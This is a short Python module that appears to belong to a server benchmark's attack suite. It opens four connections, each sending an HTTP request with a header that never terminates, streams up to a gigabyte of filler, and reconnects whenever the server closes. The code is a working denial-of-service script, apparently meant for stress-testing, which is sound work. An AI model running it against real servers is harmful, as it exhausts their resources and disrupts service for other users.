"""``endless_header``: four connections send a header that does not end, a gigabyte in all."""

from __future__ import annotations

import asyncio

from bench.attacks.attack import BROKEN, Attack, run

CONNECTIONS = 4
MOST_BYTES = 2**30
PIECE = b"x" * 2**18


async def strike(attack: Attack) -> None:
    """Send it, again and again if the connection is closed."""
    left = [MOST_BYTES]
    await asyncio.gather(*(one(attack, left) for _ in range(CONNECTIONS)))


async def one(attack: Attack, left: list[int]) -> None:
    """One connection after the other."""
    while attack.is_on and left[0] > 0:
        try:
            _, writer = await attack.client().connect()
            writer.write(b"GET / HTTP/1.1\r\nHost: x\r\nX-Endless: ")
            while attack.is_on and left[0] > 0:
                writer.write(PIECE)
                left[0] -= len(PIECE)
                await writer.drain()
        except BROKEN:
            attack.tally["closed"] += 1
            await asyncio.sleep(0.05)


if __name__ == "__main__":
    run(strike)
